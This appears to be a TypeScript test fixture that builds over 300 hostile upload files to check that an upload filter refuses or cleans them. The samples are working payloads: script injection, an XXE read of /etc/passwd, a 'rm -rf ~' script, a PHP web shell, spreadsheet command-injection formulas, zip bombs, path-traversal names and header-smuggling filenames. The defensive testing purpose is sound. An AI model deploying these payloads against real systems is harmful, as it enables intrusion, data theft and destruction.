import sharp from 'sharp';
import { floodGif, floodJpeg, floodPng, locatedPicture, textBomb, type PictureKind } from './hostile-pictures';
import { officeFile, rawZip, type OfficeKind, type RawEntry } from './raw-zip';

/**
 * refused = the upload is turned down; clean = a picture that is made anew without what it hid; plain = kept as bytes that
 * nobody on the server opens and browsers only store, under a harmless name.
 */
export interface HostileFile {
  about: string;
  name: string;
  bytes: Buffer;
  wanted: 'refused' | 'clean' | 'plain';
}

/** Stands in each script that is hidden in a file. */
export const SCRIPT_MARK = 'ScriptMark5512';
const SCRIPT = `<script>alert('${SCRIPT_MARK}')</script>`;
const MB = 1024 * 1024;
const text = (value: string): Buffer => Buffer.from(value);
const PDF = text('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

/** More than 300 files that nobody means well with, always the same (S10, E1–E5). */
export async function hostileFiles(): Promise<HostileFile[]> {
  const picture = (kind: PictureKind): Promise<Buffer> =>
    sharp({ create: { width: 40, height: 30, channels: 3, background: '#2452AC' } })
      [kind]()
      .toBuffer();
  const good: Record<string, Buffer> = {
    jpg: await picture('jpeg'),
    png: await picture('png'),
    gif: await picture('gif'),
    webp: await picture('webp'),
    pdf: PDF,
    zip: rawZip([{ name: 'a.txt', data: 'a' }]),
    docx: officeFile('docx'),
    xlsx: officeFile('xlsx'),
    pptx: officeFile('pptx'),
    doc: oleFile(),
  };
  return [
    ...programs(),
    ...renamed(good),
    ...polyglots(good),
    ...bombs(),
    ...paths(),
    ...office(),
    ...(await floods()),
    ...(await located()),
    ...broken(good),
    ...named(good),
  ];
}

/** Programs and pages, each under its own, a double and a lent extension. */
function programs(): HostileFile[] {
  const kinds: Record<string, Buffer> = {
    svg: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`),
    html: text(`<!doctype html><html><body>${SCRIPT}</body></html>`),
    xml: text(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`),
    xhtml: text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
    js: text(`alert('${SCRIPT_MARK}')`),
    sh: text('#!/bin/sh\nrm -rf ~\n'),
    php: text('<?php system($_GET[0]); ?>'),
    exe: text('MZ'.padEnd(512, '\0')),
    elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(500)]),
    class: Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(200)]),
    wasm: Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.alloc(100)]),
    rtf: text('{\\rtf1\\ansi{\\object\\objemb x}}'),
    ps: text('%!PS-Adobe-3.0\n(x) run\n'),
    swf: Buffer.concat([text('CWS\u0006'), Buffer.alloc(200)]),
    eml: text('From: a@b.mo\r\nContent-Type: text/html\r\n\r\n' + SCRIPT),
    csv: text("=cmd|'/c calc'!A1,2\n"),
  };
  return Object.entries(kinds).flatMap(([kind, bytes]) =>
    [`x.${kind}`, `photo.${kind}.jpg`, `letter.pdf.${kind}`, 'letter.pdf', 'photo.png', `x.${kind.toUpperCase()} `].map((name) => ({
      about: `${kind} as ${name}`,
      name,
      bytes,
      wanted: 'refused' as const,
    })),
  );
}

/** Good content under the name of another kind. */
function renamed(good: Record<string, Buffer>): HostileFile[] {
  const pictures = ['jpg', 'png', 'gif', 'webp'];
  const out: HostileFile[] = [];
  for (const [kind, bytes] of Object.entries(good)) {
    for (const extension of ['pdf', 'docx', 'zip', 'mp4', 'exe', 'html', 'svg', 'js', 'pdf.exe', 'jpg.scr', '']) {
      if (extension === kind || (extension === '' && pictures.includes(kind))) continue;
      out.push({ about: `${kind} renamed`, name: extension === '' ? 'noextension' : `x.${extension}`, bytes, wanted: 'refused' });
    }
  }
  return out;
}

/** Two kinds in one file. What is a picture is made anew; what two programs open as two things is refused. */
function polyglots(good: Record<string, Buffer>): HostileFile[] {
  const jar = rawZip([
    { name: 'META-INF/MANIFEST.MF', data: 'Main-Class: x' },
    { name: 'x.class', data: 'x' },
  ]);
  const out: HostileFile[] = [];
  for (const kind of ['jpg', 'png', 'gif', 'webp'] as const) {
    const bytes = good[kind] ?? PDF;
    out.push({ about: `${kind} and page`, name: `a.${kind}`, bytes: Buffer.concat([bytes, text(SCRIPT)]), wanted: 'clean' });
    out.push({
      about: `${kind} and PHP`,
      name: `a.php.${kind}`,
      bytes: Buffer.concat([bytes, text(`<?php ${SCRIPT_MARK} ?>`)]),
      wanted: 'clean',
    });
    out.push({ about: `${kind} and archive`, name: `b.${kind}`, bytes: Buffer.concat([bytes, jar]), wanted: 'refused' });
    out.push({ about: `page and ${kind}`, name: `c.${kind}`, bytes: Buffer.concat([text(SCRIPT), bytes]), wanted: 'refused' });
    out.push({ about: `archive and ${kind}`, name: `d.${kind}`, bytes: Buffer.concat([jar, bytes]), wanted: 'refused' });
  }
  out.push({
    about: 'GIF and script',
    name: 'e.gif',
    bytes: text(`GIF89a/*${'\0'.repeat(20)}*/=1;alert('${SCRIPT_MARK}')`),
    wanted: 'refused',
  });
  out.push({ about: 'PDF and archive', name: 'f.pdf', bytes: Buffer.concat([PDF, jar]), wanted: 'refused' });
  out.push({
    about: 'MP3 and archive',
    name: 'f.mp3',
    bytes: Buffer.concat([text('ID3\u0004\0\0\0\0\0\0'), Buffer.alloc(500), jar]),
    wanted: 'refused',
  });
  out.push({ about: 'old Word and archive', name: 'f.doc', bytes: Buffer.concat([oleFile(), jar]), wanted: 'refused' });
  out.push({ about: 'program and archive', name: 'f.zip', bytes: Buffer.concat([text('MZ'.padEnd(512, '\0')), jar]), wanted: 'refused' });
  out.push({ about: 'page and archive', name: 'g.zip', bytes: Buffer.concat([text(SCRIPT), jar]), wanted: 'refused' });
  out.push({ about: 'page and PDF', name: 'g.pdf', bytes: Buffer.concat([text(SCRIPT), PDF]), wanted: 'refused' });
  out.push({ about: 'PDF and page', name: 'h.pdf', bytes: Buffer.concat([PDF, text(SCRIPT)]), wanted: 'plain' });
  return out;
}

/** Little that says it is much: one level, many levels, contents over each other, too many entries. */
function bombs(): HostileFile[] {
  const zeros = Buffer.alloc(30 * MB);
  const level = (entries: readonly RawEntry[]): Buffer => rawZip(entries);
  const bottom = level([{ name: '0.bin', data: zeros }]);
  const out: [string, Buffer][] = [
    ['one entry', bottom],
    ['many entries', level(Array.from({ length: 20 }, (_one, i) => ({ name: `${String(i)}.bin`, data: zeros })))],
    ['contents over each other', level([{ name: 'a.bin', data: zeros, times: 400 }])],
    ['small contents over each other', level([{ name: 'a.bin', data: 'a'.repeat(200_000), times: 4_000 }])],
    ['four gigabytes by its own words', level([{ name: 'a.bin', data: 'a', size: 0xfffffff0 }])],
    ['too many entries', level([{ name: 'a.txt', data: 'a', times: 6_000 }])],
    ['a zip of zips', level(Array.from({ length: 16 }, (_one, i) => ({ name: `lib ${String(i)}.zip`, data: bottom })))],
    ['a zip in a zip in a zip', level([{ name: 'b.zip', data: level([{ name: 'c.zip', data: bottom }]) }])],
  ];
  for (const nested of ['7z', 'rar', 'gz', 'tar', 'jar', 'iso', 'cab', 'xz', 'ZIP'])
    out.push([`${nested} in a zip`, level([{ name: `x.${nested}`, data: 'x' }])]);
  const files: HostileFile[] = out.map(([about, bytes], i) => ({
    about: `bomb: ${about}`,
    name: `bomb${String(i)}.zip`,
    bytes,
    wanted: 'refused',
  }));
  for (const kind of ['docx', 'xlsx', 'pptx'] as const) {
    for (const part of ['a/media/image1.bin', 'a/sheet9.xml', 'docProps/app.xml'])
      files.push({
        about: `bomb: ${kind} ${part}`,
        name: `bomb.${kind}`,
        bytes: officeFile(kind, [{ name: part, data: zeros }]),
        wanted: 'refused',
      });
    files.push({
      about: `bomb: ${kind} overlapping`,
      name: `bomb.${kind}`,
      bytes: officeFile(kind, [{ name: 'a/b.bin', data: zeros, times: 300 }]),
      wanted: 'refused',
    });
    const types = rawZip([
      { name: '[Content_Types].xml', data: zeros },
      { name: 'x.xml', data: 'x' },
    ]);
    files.push({ about: `bomb: list of types of ${kind}`, name: `types.${kind}`, bytes: types, wanted: 'refused' });
  }
  // Says it is small: whoever inflates it by its word is surprised.
  const liar = rawZip([
    { name: '[Content_Types].xml', data: zeros, size: 900 },
    { name: 'x.xml', data: 'x' },
  ]);
  files.push({ about: 'bomb: list of types that lies', name: 'liar.docx', bytes: liar, wanted: 'refused' });
  return files;
}

/** Names inside an archive that lead out of it, and links. */
function paths(): HostileFile[] {
  const names = [
    '../../etc/cron.d/x',
    '..\\..\\windows\\x.dll',
    '/etc/passwd',
    'C:\\windows\\x',
    'a/../../b',
    './../x',
    'a/..',
    'x\u202efdp.exe',
    'x\u0007.txt',
    'a\u2066b.txt',
    'C:/x',
  ];
  const files: HostileFile[] = names.flatMap((name) =>
    (['zip', 'docx', 'xlsx'] as const).map((kind) => ({
      about: `path ${JSON.stringify(name)}`,
      name: `paths.${kind}`,
      bytes:
        kind === 'zip'
          ? rawZip([
              { name: 'a.txt', data: 'a' },
              { name, data: 'x' },
            ])
          : officeFile(kind, [{ name, data: 'x' }]),
      wanted: 'refused' as const,
    })),
  );
  for (const target of ['/etc/passwd', '../../x', '.']) {
    files.push({
      about: `link to ${target}`,
      name: 'link.zip',
      bytes: rawZip([{ name: 'l', data: target, mode: 0o120777 }]),
      wanted: 'refused',
    });
  }
  return files;
}

/** Macros are refused wherever they are; links to elsewhere are left alone, for nothing on the server opens them. */
function office(): HostileFile[] {
  const files: HostileFile[] = [];
  const macroTypes: Record<OfficeKind, string> = {
    docx: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    xlsx: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    pptx: 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
  };
  for (const kind of ['docx', 'xlsx', 'pptx'] as const) {
    const macros = { name: `${{ docx: 'word', xlsx: 'xl', pptx: 'ppt' }[kind]}/vbaProject.bin`, data: 'x' };
    files.push({ about: `macros in ${kind}`, name: `macros.${kind}`, bytes: officeFile(kind, [macros]), wanted: 'refused' });
    files.push({
      about: `${kind} of the macro kind`,
      name: `kind.${kind}`,
      bytes: officeFile(kind, [], macroTypes[kind]),
      wanted: 'refused',
    });
    files.push({
      about: `${kind} of the macro kind by its name`,
      name: `kind.${kind.slice(0, 3)}m`,
      bytes: officeFile(kind, [macros], macroTypes[kind]),
      wanted: 'refused',
    });
    const links = `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="x/externalLinkPath" Target="http://127.0.0.1:9/x" TargetMode="External"/></Relationships>`;
    files.push({
      about: `${kind} with links to elsewhere`,
      name: `links.${kind}`,
      bytes: officeFile(kind, [{ name: 'xl/externalLinks/_rels/externalLink1.xml.rels', data: links }]),
      wanted: 'plain',
    });
  }
  const formulas =
    '<worksheet><sheetData><row><c t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f></c><c><f>cmd|\'/c calc\'!A0</f></c></row></sheetData></worksheet>';
  files.push({
    about: 'formulas',
    name: 'formulas.xlsx',
    bytes: officeFile('xlsx', [{ name: 'xl/worksheets/sheet1.xml', data: formulas }]),
    wanted: 'plain',
  });
  for (const kind of ['doc', 'xls', 'ppt'])
    files.push({ about: `macros in ${kind}`, name: `macros.${kind}`, bytes: oleFile('_VBA_PROJECT'), wanted: 'refused' });
  for (const kind of ['msi', 'msg', 'pub', 'vsd', 'db'])
    files.push({ about: `container as ${kind}`, name: `x.${kind}`, bytes: oleFile(), wanted: 'refused' });
  return files;
}

/** Few bytes, many points. */
async function floods(): Promise<HostileFile[]> {
  const sizes = [
    [50_000, 50_000],
    [65_500, 65_500],
    [8_000, 5_001],
    [1, 50_000_000],
    [2_000_000_000, 1],
  ] as const;
  const files = sizes.map(([w, h]): [string, Buffer] => ['png', floodPng(w, h)]);
  for (const [w, h] of [
    [65_500, 65_500],
    [10_000, 4_001],
    [65_500, 700],
  ] as const)
    files.push(['jpg', await floodJpeg(w, h)]);
  for (const [w, h, frames] of [
    [2_000, 2_000, 500],

    [300, 300, 20_000],
  ] as const)
    files.push(['gif', floodGif(w, h, frames)]);
  const out: HostileFile[] = files.map(([kind, bytes], i) => ({
    about: `flood ${kind}`,
    name: `flood${String(i)}.${kind}`,
    bytes,
    wanted: 'refused',
  }));
  for (const megabytes of [16, 128])
    out.push({ about: 'flood in a text', name: 'text.png', bytes: floodPng(640, 480, [textBomb('zTXt', megabytes)]), wanted: 'clean' });
  return out;
}

async function located(): Promise<HostileFile[]> {
  const out: HostileFile[] = [];
  for (const kind of ['jpeg', 'png', 'webp'] as const) {
    for (let side = 1; side <= 8; side += 1) {
      for (const xmp of [true, false]) {
        const name = `IMG_${String(side)}.${side % 3 === 0 ? 'heic' : kind}`;
        out.push({
          about: `position in ${kind}, side ${String(side)}`,
          name,
          bytes: await locatedPicture(kind, side, xmp),
          wanted: 'clean',
        });
      }
    }
  }
  return out;
}

function broken(good: Record<string, Buffer>): HostileFile[] {
  const files: HostileFile[] = [];
  for (const kind of ['jpg', 'png', 'webp', 'zip', 'docx', 'xlsx', 'pptx'] as const) {
    const bytes = good[kind] ?? PDF;
    for (const part of [0.1, 0.5, 0.8])
      files.push({
        about: `${kind} cut`,
        name: `cut.${kind}`,
        bytes: bytes.subarray(0, Math.max(1, Math.floor(bytes.length * part))),
        wanted: 'refused',
      });
  }
  for (const kind of ['jpg', 'pdf', 'docx', 'zip', 'mp4', 'mp3', 'doc']) {
    files.push({ about: `${kind} of one byte`, name: `one.${kind}`, bytes: text('x'), wanted: 'refused' });
    files.push({ about: `${kind} of nothing but zeros`, name: `zeros.${kind}`, bytes: Buffer.alloc(5_000), wanted: 'refused' });
  }
  return files;
}

/** Good content under names that lead elsewhere or turn around. */
function named(good: Record<string, Buffer>): HostileFile[] {
  const names = [
    '../../etc/x.pdf',
    '..\\..\\x.pdf',
    '/etc/passwd.pdf',
    'C:\\x.pdf',
    'a\u202exe.pdf',
    'a\u2066b\u2069.pdf',
    'a\r\nSet-Cookie: x=1.pdf',
    '"><img src=x>.pdf',
    '....//x.pdf',
    '.htaccess.pdf',
    'a\u200b.pdf',
  ];
  const out: HostileFile[] = names.map((name) => ({
    about: `name ${JSON.stringify(name)}`,
    name,
    bytes: good['pdf'] ?? PDF,
    wanted: 'plain',
  }));
  return [...out, { about: 'name turned around', name: 'letter\u202efdp.exe', bytes: PDF, wanted: 'refused' }];
}

/** The container of old Office files: one directory of 128 bytes an entry. */
function oleFile(stream = 'WordDocument'): Buffer {
  const bytes = Buffer.alloc(2_048);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes);
  bytes.writeUInt16LE(0x3e, 24);
  bytes.writeUInt16LE(3, 26);
  bytes.writeUInt16LE(0xfffe, 28);
  bytes.writeUInt16LE(9, 30);
  Buffer.from(`Root Entry\0`, 'utf16le').copy(bytes, 1_024);
  Buffer.from(`${stream}\0`, 'utf16le').copy(bytes, 1_152);
  return bytes;
}
